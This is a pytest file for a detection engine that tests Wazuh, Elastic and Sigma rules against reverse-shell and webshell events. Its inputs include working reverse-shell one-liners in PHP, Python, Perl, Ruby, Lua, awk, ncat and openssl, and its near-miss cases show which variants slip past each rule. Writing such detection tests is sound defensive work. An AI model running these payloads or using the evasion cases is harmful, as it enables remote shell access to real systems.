"""The five seed documents (/work/shared/seeds/) as tests: every example they give, and the events that just miss.

Each test states the exact set of rule ids on every output event, so a rule that fires where it should not
(another shipped rule included) fails the test as surely as one that stays silent.
"""

from __future__ import annotations

import copy
from typing import Any

import msgspec
import pytest

from conftest import (
    PHP_FSOCKOPEN,
    PYTHON_PTY,
    REVERSE_SHELL_SEQUENCE,
    SHELL_VIA_WEB_SERVER,
    TLS_CLIENT_SHELL,
    WEB_SERVER_CHILD,
    WEBSHELL_RECON,
    Runner,
    rule_ids,
    seed_rule_ids,
)
from shellsieve.compile.ruleset import Ruleset
from shellsieve.run.match import BlockMatcher
from shellsieve.run.stats import Stats

SEQ = REVERSE_SHELL_SEQUENCE
NONE: frozenset[str] = frozenset()
T0 = "2024-05-01T10:00:00.000Z"

# ---------------------------------------------------------------------------------------------------------------
# Event builders. Keyword arguments name dotted ECS fields with "__" for "." (process__parent__name=...);
# the value DROP removes the field.
# ---------------------------------------------------------------------------------------------------------------

DROP = object()

_PROC: dict[str, Any] = {
    "@timestamp": T0,
    "event": {"category": ["process"], "type": ["start"], "action": "exec", "kind": "event"},
    "host": {"id": "h1", "os": {"type": "linux"}},
    "process": {"entity_id": "e1", "pid": 4242, "name": "ls", "executable": "/usr/bin/ls", "args": ["ls"],
                "args_count": 1, "command_line": "ls", "working_directory": "/tmp",
                "parent": {"name": "bash", "executable": "/bin/bash", "pid": 4000}},
    "user": {"name": "root", "id": "0"},
}

_NET: dict[str, Any] = {
    "@timestamp": "2024-05-01T10:00:00.500Z",
    "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted", "kind": "event"},
    "host": {"id": "h1", "os": {"type": "linux"}},
    "process": {"entity_id": "e1", "pid": 4242, "name": "nc"},
    "destination": {"ip": "10.1.2.3", "port": 4444},
}


def _build(base: dict[str, Any], over: dict[str, Any]) -> dict[str, Any]:
    ev = copy.deepcopy(base)
    for key, value in over.items():
        *path, last = key.replace("__", ".").split(".") if key != "@timestamp" else [key]
        cur = ev
        for part in path:
            cur = cur.setdefault(part, {})
        if value is DROP:
            cur.pop(last, None)
        else:
            cur[last] = value
    return ev


def proc(**over: Any) -> dict[str, Any]:
    """An Elastic Defend process start on Linux (ls run by root from bash), with fields replaced."""
    return _build(_PROC, over)


def net(**over: Any) -> dict[str, Any]:
    """An Elastic Defend connection attempt by process e1 (nc) on host h1, 0.5 s after T0, with fields replaced."""
    return _build(_NET, over)


def at(ts: str) -> dict[str, Any]:
    """Keyword arguments that set @timestamp (not a valid Python identifier)."""
    return {"@timestamp": ts}


def exec_of(args: list[str], **over: Any) -> dict[str, Any]:
    """A process start of args[0], with args, args_count and command_line as Elastic Defend fills them."""
    name = args[0].rsplit("/", 1)[-1]
    fields: dict[str, Any] = {"process__name": name, "process__executable": f"/usr/bin/{name}",
                              "process__args": args, "process__args_count": len(args),
                              "process__command_line": " ".join(args)}
    fields.update(over)
    return proc(**fields)


def cmdline(command_line: str, name: str) -> dict[str, Any]:
    """A process start whose command line is exactly the given text (what Wazuh rules 100103 and 100620 read)."""
    return proc(process__name=name, process__executable=f"/usr/bin/{name}", process__args=[name],
                process__args_count=1, process__command_line=command_line)


def ids(doc: dict[str, Any]) -> frozenset[str]:
    """The set of rule ids of one output event (the seed rules', not the issue-24 payload rules')."""
    return frozenset(seed_rule_ids(doc))


def only(run: Runner, event: dict[str, Any]) -> frozenset[str]:
    """Run one event alone; the set of rule ids it comes back with."""
    out = run([event])
    assert len(out) == 1
    return ids(out[0])


# ---------------------------------------------------------------------------------------------------------------
# Seed 000: Wazuh rule 100103, PHP reverse shell via fsockopen() (reads process.command_line).
# ---------------------------------------------------------------------------------------------------------------


class TestSeed000PhpFsockopen:
    @pytest.mark.parametrize("line", [
        """php -r '$s=fsockopen("10.10.10.10",9001);'""",
        """php -r "fsockopen('192.168.1.5',4444);\"""",
        """php -r '$sock = fsockopen("8.8.8.8",1337);'""",
        """php -r '$sock=fsockopen("10.10.10.10",9001);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'""",  # noqa: E501 (verbatim)
        """php -r '$sock=fsockopen("10.10.10.10",9001);passthru("sh <&3 >&3 2>&3");'""",
    ])
    def test_seed_triggering_commands(self, run: Runner, line: str) -> None:
        """Each of the seed's five triggering commands, as process.command_line, is tagged 100103 and nothing else."""
        (doc,) = run([cmdline(line, "php")])
        assert ids(doc) == {PHP_FSOCKOPEN}
        assert doc["event"]["kind"] == "alert" and doc["rule"]["ruleset"] == "wazuh"

    @pytest.mark.parametrize("line", [
        "php script.php",
        "php -i",
        """php -r 'echo "hello world";'""",
        "php -r '$a=1+1;'",
    ])
    def test_seed_non_triggering_commands(self, run: Runner, line: str) -> None:
        """Each of the seed's four non-triggering commands passes with no rule id."""
        assert only(run, cmdline(line, "php")) == NONE


# ---------------------------------------------------------------------------------------------------------------
# Seed 001: Wazuh rule 100620, Python reverse shell (socket + connect + dup2 + pty.spawn), (?is) PCRE2.
# ---------------------------------------------------------------------------------------------------------------

TESTED_PAYLOAD = """export RHOST="10.10.10.10";export RPORT=9001;
python -c 'import socket,os,pty;
s=socket.socket();
s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));
[os.dup2(s.fileno(),fd) for fd in (0,1,2)];
pty.spawn("sh")'"""

IMPORTS = {
    "socket,os,pty": "import socket,os,pty;",
    "pty,os,socket": "import pty,os,socket;",
    "separate": "import os;import pty;import socket;",
}
TARGETS = {
    "getenv": "s.connect((os.getenv({q}RHOST{q}),int(os.getenv({q}RPORT{q}))));",
    "literal": "s.connect(({q}10.10.10.10{q},9001));",
}
DUP2 = {
    "loop": "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];",
    "explicit": "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);",
}


def python_payload(interpreter: str = "python", imports: str = "socket,os,pty", target: str = "literal",
                   dup2: str = "loop", shell: str = "sh", quote: str = '"') -> str:
    """A one-line `python -c` reverse shell; `quote` is the quote inside the code, the shell quote is the other."""
    outer = "'" if quote == '"' else '"'
    code = (IMPORTS[imports] + "s=socket.socket();" + TARGETS[target].format(q=quote) + DUP2[dup2]
            + f"pty.spawn({quote}{shell}{quote})")
    return f"{interpreter} -c {outer}{code}{outer}"


class TestSeed001PythonPty:
    def test_tested_payload(self, run: Runner) -> None:
        """The seed's multi-line tested payload, as the command line of a python process, is tagged 100620 only."""
        (doc,) = run([cmdline(TESTED_PAYLOAD, "python")])
        assert ids(doc) == {PYTHON_PTY}
        # the top-level rule.* is the most severe alert: the issue-24 interpreter rule ties with 100620
        rulesets = {a["rule"]["ruleset"] for a in doc["shellsieve"]["alerts"]}
        assert doc["event"]["kind"] == "alert" and "wazuh" in rulesets

    @pytest.mark.parametrize("quote", ['"', "'"])
    @pytest.mark.parametrize("shell", ["sh", "bash"])
    @pytest.mark.parametrize("dup2", sorted(DUP2))
    @pytest.mark.parametrize("target", sorted(TARGETS))
    @pytest.mark.parametrize("imports", sorted(IMPORTS))
    @pytest.mark.parametrize("interpreter", ["python", "python3"])
    def test_listed_variants(self, run: Runner, interpreter: str, imports: str, target: str, dup2: str,
                             shell: str, quote: str) -> None:
        """Every combination of the seed's variants (interpreter, imports, getenv, dup2, shell, quotes) fires."""
        line = python_payload(interpreter, imports, target, dup2, shell, quote)
        assert only(run, cmdline(line, interpreter)) == {PYTHON_PTY}

    @pytest.mark.parametrize("line", [
        python_payload(interpreter="PYTHON").replace("socket.socket", "SOCKET.SOCKET"),
        python_payload(interpreter="Python3").upper(),
        python_payload(interpreter="/usr/bin/python3"),  # \b between "/" and "p"
        python_payload(interpreter="python3.11"),  # \b between "3" and "."
        TESTED_PAYLOAD.replace("\n", "\r\n"),  # [\s\S] spans any line break
    ])
    def test_case_and_boundaries_that_fire(self, run: Runner, line: str) -> None:
        """(?i) makes PYTHON and SOCKET.SOCKET match; a word boundary after python3 or before a path still holds."""
        assert only(run, cmdline(line, "python3")) == {PYTHON_PTY}

    @pytest.mark.parametrize("line", [
        python_payload().replace('pty.spawn("sh")', 'print("sh")'),  # no pty.spawn
        python_payload(shell="zsh"),  # zsh is not sh|bash
        python_payload(shell="/bin/sh"),  # the quote must come right before sh|bash
        python_payload().replace("[os.dup2(s.fileno(),fd) for fd in (0,1,2)];", ""),  # no dup2
        python_payload(interpreter="pythonista"),  # \bpython(?:3)?\b fails inside a longer word
        python_payload(interpreter="python2"),  # neither python nor python3 as a whole word
        python_payload().replace("s=socket.socket();", "s=socket.create_connection();"),  # no socket.socket
        python_payload().replace("s=socket.socket();", "s=mysocket.socket();"),  # no \b before socket.socket
        python_payload().replace('s.connect(("10.10.10.10",9001));', ""),  # no connect(...)
        # the primitives out of order (pty.spawn first)
        "python -c 'import pty,os,socket;pty.spawn(\"sh\");s=socket.socket();s.connect((\"h\",1));os.dup2(0,1)'",
    ])
    def test_near_misses(self, run: Runner, line: str) -> None:
        """A missing or wrong primitive, a failing word boundary, or the primitives out of order: no rule id."""
        assert only(run, cmdline(line, "python3")) == NONE


# ---------------------------------------------------------------------------------------------------------------
# Seed 002: EQL sequence "Potential Reverse Shell via Suspicious Child Process".
# ---------------------------------------------------------------------------------------------------------------

# One process start per branch of the first step (args as Elastic Defend records them, command_line = args joined).
BRANCHES: dict[str, list[str]] = {
    "python -c import pty spawn": [
        "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.1.2.3',4444));pty.spawn('/bin/sh')"],
    "python -c import subprocess call": [
        "python", "-c", "import socket,subprocess;s=socket.socket();s.connect(('10.1.2.3',4444));"
        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno())"],
    "perl -e socket exec": [
        "perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'connect(S,sockaddr_in(4444,inet_aton("10.1.2.3")));exec("/bin/sh -i");'],
    "perl -e socket system": ["perl", "-e", 'use Socket;socket(S,2,1,6);connect(S,$a);system("/bin/sh -i")'],
    "ruby -rsocket TCPSocket.open": [
        "ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.1.2.3",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'],
    "ruby -e TCPSocket.new": ["ruby", "-e", 'require "socket";c=TCPSocket.new("10.1.2.3",4444);c.puts `id`'],
    "lua -e socket.tcp io.popen": [
        "lua", "-e", "local s=require('socket');local t=socket.tcp();t:connect('10.1.2.3','4444');"
        "t:send(io.popen('sh'):read('*a'))"],
    "lua -e socket.tcp os.execute": [
        "lua5.3", "-e", "require('socket');t=socket.tcp();t:connect('10.1.2.3','4444');os.execute('/bin/sh -i')"],
    "php -r fsockopen /bin/sh": ["php", "-r", '$sock=fsockopen("10.1.2.3",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    "awk /inet/tcp/": [
        "awk", 'BEGIN {s = "/inet/tcp/0/10.1.2.3/4444"; while(42) {printf "> " |& s; s |& getline c; '
        'while ((c |& getline) > 0) print $0 |& s; close(c)}}'],
    "openssl -connect": ["openssl", "s_client", "-quiet", "-connect", "10.1.2.3:4444"],
    "nc": ["nc", "10.1.2.3", "4444"],
    "ncat": ["ncat", "-e", "/bin/sh", "10.1.2.3", "4444"],
    "netcat": ["netcat", "10.1.2.3", "4444"],
    "telnet": ["telnet", "10.1.2.3", "4444"],
}

PY = BRANCHES["python -c import pty spawn"]
NC = BRANCHES["nc"]


def pair(run: Runner, first: dict[str, Any], second: dict[str, Any]) -> tuple[frozenset[str], frozenset[str]]:
    """Run two events in order; the rule-id sets of both."""
    a, b = run([first, second])
    return ids(a), ids(b)


def fired(hit: bool) -> tuple[frozenset[str], frozenset[str]]:
    """The expected rule-id sets of (process start, connection): the sequence fires on the connection only."""
    return NONE, (frozenset({SEQ}) if hit else NONE)


class TestSeed002ReverseShellSequence:
    @pytest.mark.parametrize("branch", list(BRANCHES))
    def test_each_branch_then_connection(self, run: Runner, branch: str) -> None:
        """A start matching one branch, then its connection 0.5 s later: the connection is tagged, quoting it;
        the start only by shellsieve's own TLS-client rule, for `openssl s_client -quiet` under bash."""
        first = exec_of(BRANCHES[branch])
        a, b = run([first, net(process__name=first["process"]["name"])])
        start = frozenset({TLS_CLIENT_SHELL}) if branch == "openssl -connect" else NONE
        assert (ids(a), ids(b)) == (start, fired(True)[1])
        assert ("shellsieve" in a) == bool(rule_ids(a))  # tagged only where a rule fired
        assert b["event"]["kind"] == "alert" and b["rule"]["ruleset"] == "elastic"
        (seq,) = b["shellsieve"]["sequence"]
        assert seq["rule.id"] == SEQ
        assert seq["first"]["@timestamp"] == T0
        assert seq["first"]["process.command_line"] == first["process"]["command_line"]

    @pytest.mark.parametrize(("parent", "hit"), [
        *[(p, True) for p in ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "perl", "ruby",
                              "openssl", "nc", "netcat", "ncat", "telnet", "awk")],
        ("python3.11", True), ("python", True),  # python*
        ("php-fpm8.1", True), ("php", True),  # php*
        ("lua5.4", True),  # lua*
        ("BASH", True),  # `:` ignores case
        ("systemd", False), ("sshd", False), ("cron", False),
        ("perl5", False), ("rubyx", False), ("gawk", False), ("ncat2", False),  # no wildcard on these names
        ("xbash", False),  # the whole value must match
    ])
    def test_parent_name_list(self, run: Runner, parent: str, hit: bool) -> None:
        """The parent of the first step must be in the rule's list (wildcards only where the list has them)."""
        first = exec_of(PY, process__parent__name=parent, process__parent__executable=f"/usr/bin/{parent}")
        assert pair(run, first, net(process__name="python3")) == fired(hit)

    @pytest.mark.parametrize(("name", "hit"), [
        ("python3", True), ("python", True), ("php", True), ("php8.2", True), ("perl", True), ("ruby", True),
        ("lua", True), ("luajit", True), ("openssl", True), ("nc", True), ("netcat", True), ("ncat", True),
        ("telnet", True), ("awk", True), ("Python3", True), ("NC", True),
        ("curl", False), ("bash", False), ("perl5", False), ("ruby3.1", False), ("gawk", False),
    ])
    def test_network_process_name_list(self, run: Runner, name: str, hit: bool) -> None:
        """The connection's process.name must be in the second step's list (`:` ignores case)."""
        assert pair(run, exec_of(NC), net(process__name=name)) == fired(hit)

    def test_gawk_shell_misses_on_its_own_connection(self, run: Runner) -> None:
        """gawk passes the first step, but its connection (process.name gawk) is outside the second list: no alert."""
        first = exec_of(["gawk", *BRANCHES["awk /inet/tcp/"][1:]])
        assert pair(run, first, net(process__name="gawk")) == fired(False)
        assert pair(run, first, net(process__name="awk")) == fired(True)

    @pytest.mark.parametrize(("args", "hit"), [
        (["nc", "10.1.2.3", "4444"], True),
        (["nc", "-z", "10.1.2.3", "4444"], False),  # not process.args == "-z"
        (["ncat", "-v", "-z", "10.1.2.3", "4444"], False),
        (["nc", "-Z", "10.1.2.3", "4444"], True),  # == is case-sensitive
        (["nc", "10.1.2.3"], False),  # args_count 2
        (["netcat", "10.1.2.3"], False),
        (["telnet", "10.1.2.3", "23"], True),
        (["telnet", "10.1.2.3"], False),  # args_count 2
    ])
    def test_nc_and_telnet_args(self, run: Runner, args: list[str], hit: bool) -> None:
        """nc/ncat/netcat need args_count >= 3 and no `-z` argument; telnet needs args_count >= 3."""
        assert pair(run, exec_of(args), net(process__name=args[0])) == fired(hit)

    @pytest.mark.parametrize(("ip", "hit"), [
        ("10.1.2.3", True), ("93.184.216.34", True), ("2001:db8::1", True),
        ("127.0.0.1", False), ("127.8.9.10", False), ("169.254.1.1", False), ("224.0.0.5", False),
        ("239.255.255.250", False), ("::1", False),
    ])
    def test_destination_ip(self, run: Runner, ip: str, hit: bool) -> None:
        """Loopback (127/8, ::1), link-local (169.254/16) and multicast (224/4) destinations do not complete it."""
        assert pair(run, exec_of(NC), net(destination__ip=ip)) == fired(hit)

    def test_no_destination_ip(self, run: Runner) -> None:
        """A connection without destination.ip (destination.ip != null) does not complete the sequence."""
        assert pair(run, exec_of(NC), net(destination__ip=DROP)) == fired(False)

    @pytest.mark.parametrize(("ts", "hit"), [
        ("2024-05-01T10:00:00.999Z", True),
        ("2024-05-01T10:00:01.000Z", True),  # exactly maxspan: inclusive
        ("2024-05-01T10:00:01.500Z", False),
        ("2024-05-01T10:05:00.000Z", False),
    ])
    def test_maxspan(self, run: Runner, ts: str, hit: bool) -> None:
        """The connection must come at most 1 s (event time) after the process start."""
        assert pair(run, exec_of(NC), net(**at(ts))) == fired(hit)

    @pytest.mark.parametrize("over", [{"process__entity_id": "e2"}, {"host__id": "h2"}])
    def test_join_keys(self, run: Runner, over: dict[str, Any]) -> None:
        """A connection from another process.entity_id or another host.id does not join the start."""
        assert pair(run, exec_of(NC), net(**over)) == fired(False)

    def test_connection_before_start(self, run: Runner) -> None:
        """The connection first, then the process start: neither is tagged."""
        assert pair(run, net(), exec_of(NC)) == (NONE, NONE)

    @pytest.mark.parametrize(("over", "hit"), [
        ({"event__action": "connection_accepted"}, True),
        ({"event__action": "disconnect_received"}, False),
        ({"event__type": ["end"]}, False),
        ({"host__os__type": "windows"}, False),
    ])
    def test_network_step_conditions(self, run: Runner, over: dict[str, Any], hit: bool) -> None:
        """The second step wants a Linux connection_attempted or connection_accepted start."""
        assert pair(run, exec_of(NC), net(**over)) == fired(hit)

    @pytest.mark.parametrize(("over", "hit"), [
        ({"event__action": "fork"}, True),
        ({"event__action": "end"}, False),
        ({"event__type": ["end"]}, False),
        ({"host__os__type": "windows"}, False),
    ])
    def test_process_step_conditions(self, run: Runner, over: dict[str, Any], hit: bool) -> None:
        """The first step wants a Linux exec or fork start."""
        assert pair(run, exec_of(NC, **over), net()) == fired(hit)

    def test_process_name_is_case_insensitive(self, run: Runner) -> None:
        """`process.name : "python*"` ignores case, so a process named Python3 starts the sequence."""
        first = exec_of(PY, process__name="Python3")
        assert pair(run, first, net(process__name="Python3")) == fired(True)

    @pytest.mark.parametrize("flag", ["-c", "-C"])
    def test_dash_c_is_case_insensitive(self, run: Runner, flag: str) -> None:
        """`process.args : "-c"` ignores case, so "-C" counts as "-c"."""
        first = exec_of([PY[0], flag, PY[2]])
        assert pair(run, first, net(process__name="python3")) == fired(True)

    @pytest.mark.parametrize("args", [
        ["python3", "-c", "print(1)"],  # neither import..pty..spawn nor import..subprocess..call
        ["python3", PY[2]],  # no -c
        ["perl", "-e", 'use Socket;socket(S,2,1,6);print "x"'],  # no exec/system
        ["php", "-r", '$sock=fsockopen("10.1.2.3",4444);'],  # no /bin/*sh
        ["openssl", "s_client", "10.1.2.3:4444"],  # no -connect
    ])
    def test_first_step_near_misses(self, run: Runner, args: list[str]) -> None:
        """A start missing one condition of its branch does not open a sequence."""
        assert pair(run, exec_of(args), net(process__name=args[0])) == fired(False)


# ---------------------------------------------------------------------------------------------------------------
# Seed 003, first rule: KQL "Potential Shell via Web Server".
# ---------------------------------------------------------------------------------------------------------------

KQL_PARENTS = ["apache", "nginx", "www", "apache2", "httpd", "www-data"]


def web_shell(name: str = "bash", parent: str = "nginx", **over: Any) -> dict[str, Any]:
    """A shell started by a web server (parent name and executable set alike)."""
    fields: dict[str, Any] = {"process__name": name, "process__executable": f"/bin/{name}",
                              "process__args": [name], "process__command_line": name,
                              "process__parent__name": parent, "process__parent__executable": f"/usr/sbin/{parent}"}
    fields.update(over)
    return proc(**fields)


class TestSeed003ShellViaWebServer:
    @pytest.mark.parametrize("parent", KQL_PARENTS)
    @pytest.mark.parametrize("name", ["bash", "dash", "ash", "zsh"])
    def test_each_shell_under_each_parent(self, run: Runner, name: str, parent: str) -> None:
        """Each listed shell under each listed web-server parent is tagged by the KQL rule alone."""
        (doc,) = run([web_shell(name, parent)])
        assert ids(doc) == {SHELL_VIA_WEB_SERVER}
        assert doc["event"]["kind"] == "alert" and doc["rule"]["name"] == "Potential Shell via Web Server"

    @pytest.mark.parametrize("event_type", ["start", "process_started"])
    def test_event_types(self, run: Runner, event_type: str) -> None:
        """event.type start and process_started both fire."""
        assert only(run, web_shell(event__type=[event_type])) == {SHELL_VIA_WEB_SERVER}

    @pytest.mark.parametrize("over", [
        {"parent": "sshd"},  # parent outside the list
        {"parent": "systemd"},
        {"name": "Bash"},  # keyword fields are case-sensitive in KQL
        {"parent": "Nginx"},
        {"parent": "nginx-worker"},  # whole value, no implicit wildcard
        {"event__type": ["end"]},
        {"event__category": ["network"]},
        {"host__os__type": "windows"},
    ])
    def test_near_misses(self, run: Runner, over: dict[str, Any]) -> None:
        """A parent outside the list, another case, another event type, category or OS: no rule id."""
        assert only(run, web_shell(**over)) == NONE

    # The query writes "python*", "perl*" and "php*" in quotes. In KQL a quoted value is a phrase: `*` inside
    # quotes is a literal star, not a wildcard (Kibana: "wildcards are not supported in quoted strings"), so on a
    # keyword field process.name:"python*" matches only the literal name `python*`. The loader keeps that meaning
    # (parse_kql gives Predicate(process.name, EQ, (..., 'python*', 'perl*', 'php*'), case_sensitive=True)):
    # python3/perl/php under a web server do NOT fire this rule, while a process literally named "python*" does.
    @pytest.mark.parametrize(("name", "hit"), [
        ("python3", False), ("python", False), ("perl", False), ("php", False), ("php-cgi", False),
        ("python*", True), ("perl*", True), ("php*", True),
    ])
    def test_quoted_star_is_literal(self, run: Runner, name: str, hit: bool) -> None:
        """Quoted "python*" / "perl*" / "php*" are literal phrases: only the names with a real star match."""
        assert only(run, web_shell(name)) == ({SHELL_VIA_WEB_SERVER} if hit else NONE)


# ---------------------------------------------------------------------------------------------------------------
# Seed 003, second rule: EQL "Suspicious Child Execution via Web Server".
# ---------------------------------------------------------------------------------------------------------------

EQL_PARENTS = [
    "apache", "nginx", "apache2", "httpd", "lighttpd", "caddy", "mongrel_rails", "haproxy", "gunicorn", "uwsgi",
    "openresty", "cherokee", "h2o", "resin", "puma", "unicorn", "traefik", "uvicorn", "tornado", "hypercorn",
    "daphne", "twistd", "yaws", "webfsd", "httpd.worker", "flask", "rails", "mongrel", "php-cgi", "php-fcgi",
    "php-cgi.cagefs", "catalina.sh", "hiawatha", "lswsctrl",
]
EQL_USERS = ["apache", "www-data", "httpd", "nginx", "lighttpd", "tomcat", "tomcat8", "tomcat9"]


def web_child(**over: Any) -> dict[str, Any]:
    """whoami started by nginx as root: the EQL rule flags it; fields replaced as given."""
    fields: dict[str, Any] = {"process__name": "whoami", "process__executable": "/usr/bin/whoami",
                              "process__args": ["whoami"], "process__command_line": "whoami",
                              "process__parent__name": "nginx", "process__parent__executable": "/usr/sbin/nginx"}
    fields.update(over)
    return proc(**fields)


def plain_parent(**over: Any) -> dict[str, Any]:
    """web_child with a parent that is not a web server (bash), so only the user or java clause can match."""
    return web_child(process__parent__name="bash", process__parent__executable="/bin/bash", **over)


def tagged(hit: bool) -> frozenset[str]:
    """The expected rule-id set for the EQL web-server-child rule."""
    return frozenset({WEB_SERVER_CHILD}) if hit else NONE


class TestSeed003SuspiciousChildOfWebServer:
    def test_whoami_under_nginx(self, run: Runner) -> None:
        """The base case: whoami under nginx is tagged by the EQL rule alone."""
        (doc,) = run([web_child()])
        assert ids(doc) == {WEB_SERVER_CHILD}
        assert doc["event"]["kind"] == "alert" and doc["rule"]["name"] == "Suspicious Child Execution via Web Server"

    @pytest.mark.parametrize(("parent", "hit"), [
        *[(p, True) for p in EQL_PARENTS],
        ("php-fpm7.4", True), ("php-fpm", True), ("php-fpm: pool www", True),  # php-fpm*
        ("Nginx", False), ("APACHE2", False),  # like is case-sensitive
        ("sshd", False), ("systemd", False), ("xphp-fpm", False), ("nginx2", False),
    ])
    def test_parent_name_like(self, run: Runner, parent: str, hit: bool) -> None:
        """process.parent.name `like` the list: case-sensitive, wildcard only in php-fpm*."""
        assert only(run, web_child(process__parent__name=parent)) == tagged(hit)

    @pytest.mark.parametrize(("user", "hit"), [
        *[(u, True) for u in EQL_USERS],
        ("root", False), ("deploy", False), ("WWW-DATA", False),  # `in` is case-sensitive
    ])
    def test_user_name_with_plain_parent(self, run: Runner, user: str, hit: bool) -> None:
        """A web user.name is enough with a parent that is not a web server."""
        assert only(run, plain_parent(user__name=user)) == tagged(hit)

    @pytest.mark.parametrize(("uid", "hit"), [("33", True), ("48", True), ("498", True), ("34", False), ("0", False)])
    def test_user_id_with_plain_parent(self, run: Runner, uid: str, hit: bool) -> None:
        """user.id 33, 48 or 498 (ECS keyword strings) is enough with a parent that is not a web server; 34 is not."""
        assert only(run, plain_parent(user__id=uid)) == tagged(hit)

    @pytest.mark.parametrize(("name", "cwd", "hit"), [
        ("java", "/u01/app", True), ("java", "/u02/oracle/bin", True),
        ("java", "/u01/x", True),
        ("java", "/opt/app", False),
        ("java", "/u001/x", False),  # ? is exactly one character
        ("java", "/U01/x", False),  # like is case-sensitive
        ("java", DROP, False),  # ?process.working_directory: absent is null, no error, no match
        ("JAVA", "/u01/app", False),  # == is case-sensitive
        ("javaw", "/u01/app", False),
    ])
    def test_java_working_directory(self, run: Runner, name: str, cwd: Any, hit: bool) -> None:
        """java with working directory like /u0?/* counts as a web-server child even under a plain parent."""
        ev = plain_parent(process__name=name, process__executable=f"/tmp/{name}", process__working_directory=cwd)
        assert only(run, ev) == tagged(hit)

    @pytest.mark.parametrize("value", [DROP, None])
    def test_parent_executable_required(self, run: Runner, value: Any) -> None:
        """process.parent.executable != null: absent or null, the rule does not fire."""
        assert only(run, web_child(process__parent__executable=value)) == NONE

    @pytest.mark.parametrize(("exe", "hit"), [
        ("/tmp/x", True), ("/var/tmp/x", True), ("/dev/shm/x", True), ("./x", True), ("/run/x", True),
        ("/var/run/x", True), ("/boot/x", True), ("/sys/x", True), ("/lost+found/x", True), ("/proc/x", True),
        ("/var/mail/x", True), ("/var/www/html/x", True), ("/home/u/x", True), ("/root/x", True),
        ("/usr/bin/x", False), ("/opt/tmp/x", False),
        ("/TMP/x", False),  # like is case-sensitive
    ])
    def test_executable_prefixes(self, run: Runner, exe: str, hit: bool) -> None:
        """process.executable `like` one of the listed directories (the name x is in no list)."""
        assert only(run, web_child(process__executable=exe, process__name="x")) == tagged(hit)

    @pytest.mark.parametrize(("name", "hit"), [
        (".hidden", True), ("payload.ELF", True), ("payload.elf", True), ("x.sh", True), ("x.PY", True),
        ("x.rb", True), ("x.pl", True), ("x.lua5", True), ("x.php7", True),
        ("whoami", True), ("WHOAMI", True), ("nc", True), ("Curl", True), ("systemd", True), ("aws", True),
        ("ls", False), ("cat", False), ("payload.elf.bak", False), ("whoami2", False),
        ("app.js", False),  # the list has ".js" without a star: a literal name, not a suffix
    ])
    def test_names_like_insensitive(self, run: Runner, name: str, hit: bool) -> None:
        """process.name `like~` the list: wildcards, case-insensitive (executable in /usr/bin, not a listed dir)."""
        assert only(run, web_child(process__executable=f"/usr/bin/{name}", process__name=name)) == tagged(hit)

    @pytest.mark.parametrize("over", [{"host__os__type": "windows"}, {"event__type": ["end"]},
                                      {"event__category": ["network"]}])
    def test_linux_process_start_only(self, run: Runner, over: dict[str, Any]) -> None:
        """Only a Linux process start is considered."""
        assert only(run, web_child(**over)) == NONE


# ---------------------------------------------------------------------------------------------------------------
# Seed 004: Sigma "Webshell Tool Reconnaissance Activity" on Sysmon-like ECS.
# ---------------------------------------------------------------------------------------------------------------

WEB_IMAGES = [
    "C:\\Program Files\\Caddy\\caddy.exe",
    "C:\\Apache24\\bin\\httpd.exe",
    "C:\\nginx\\nginx.exe",
    "C:\\php\\php-cgi.exe",
    "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    "C:\\inetpub\\w3wp.exe",
    "C:\\Program Files\\Apache Software Foundation\\ws_tomcatservice.exe",
    "C:\\WINDOWS\\SYSTEM32\\INETSRV\\W3WP.EXE",  # Sigma values are case-insensitive
]
RECON = ["perl --help", "perl -h", "python --help", "python -h", "python3 --help", "python3 -h", "wget --help"]


def win(parent_image: str, command_line: str) -> dict[str, Any]:
    """A Sysmon process creation (event 1) as ECS: ParentImage is process.parent.executable, CommandLine is
    process.command_line."""
    return {
        "@timestamp": T0,
        "event": {"category": ["process"], "type": ["start"], "code": "1", "kind": "event"},
        "host": {"id": "w1", "os": {"type": "windows"}},
        "process": {"pid": 5120, "name": "cmd.exe", "executable": "C:\\Windows\\System32\\cmd.exe",
                    "command_line": command_line,
                    "parent": {"executable": parent_image, "name": parent_image.rsplit("\\", 1)[-1]}},
        "user": {"name": "IUSR", "domain": "NT AUTHORITY"},
    }


def recon_tagged(hit: bool) -> frozenset[str]:
    """The expected rule-id set for the Sigma recon rule."""
    return frozenset({WEBSHELL_RECON}) if hit else NONE


class TestSeed004WebshellRecon:
    @pytest.mark.parametrize("recon", RECON)
    @pytest.mark.parametrize("parent", WEB_IMAGES)
    def test_web_server_image_with_recon(self, run: Runner, parent: str, recon: str) -> None:
        """Each web-server parent image with each recon command is tagged by the Sigma rule alone."""
        (doc,) = run([win(parent, f'cmd.exe /c "{recon}"')])
        assert ids(doc) == {WEBSHELL_RECON}
        assert doc["event"]["kind"] == "alert" and doc["rule"]["ruleset"] == "sigma"

    @pytest.mark.parametrize(("parent", "command_line", "hit"), [
        # tomcat1: java.exe / javaw.exe whose path contains -tomcat- or \tomcat
        ("C:\\apache-tomcat-9.0.80\\jre\\bin\\java.exe", "cmd.exe /c python -h", True),
        ("C:\\tomcat9\\jre\\bin\\javaw.exe", "cmd.exe /c wget --help", True),
        ("C:\\Program Files\\Tomcat\\bin\\JAVA.EXE", "cmd.exe /c perl --help", True),
        ("C:\\apache-tomcat-9.0.80\\jre\\bin\\java.exe", "cmd.exe /c whoami", False),  # no recon
        # tomcat2: java.exe / javaw.exe and CATALINA_HOME or catalina.jar in the command line
        ("C:\\Java\\jre\\bin\\java.exe", "cmd.exe /c set CATALINA_HOME=C:\\srv && python3 --help", True),
        ("C:\\Java\\jre\\bin\\javaw.exe", "cmd.exe /c dir lib\\catalina.jar & perl -h", True),
        ("C:\\Java\\jre\\bin\\java.exe", "cmd.exe /c set catalina_home=x && perl -h", True),  # insensitive
